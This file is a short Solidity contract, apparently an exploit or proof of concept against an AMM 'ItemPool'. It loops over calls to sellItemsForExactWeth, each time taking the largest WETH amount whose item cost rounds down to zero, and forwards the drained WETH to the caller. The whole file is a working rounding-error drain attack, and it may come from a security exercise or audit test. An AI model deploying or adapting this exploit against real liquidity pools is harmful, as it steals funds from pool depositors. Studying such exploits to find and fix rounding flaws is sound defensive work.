// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../interfaces/IERC20.sol";
import {ItemPool} from "../amm/ItemPool.sol";

/// @notice Repeatedly asks the item pool for the largest WETH amount whose item price rounds
/// down to zero items, and keeps the WETH.
contract ItemPoolDust {
    function trade(ItemPool pool, uint256 iterations) external returns (uint256 total) {
        pool.items().setApprovalForAll(address(pool), true);
        for (uint256 i = 0; i < iterations; i++) {
            uint256 out = (997 * pool.reserveWeth() - 1) / (1000 * pool.reserveItems() + 997);
            if (out == 0) break;
            pool.sellItemsForExactWeth(out, 0);
            total += out;
        }
        IERC20 weth = pool.weth();
        weth.transfer(msg.sender, weth.balanceOf(address(this)));
    }
}
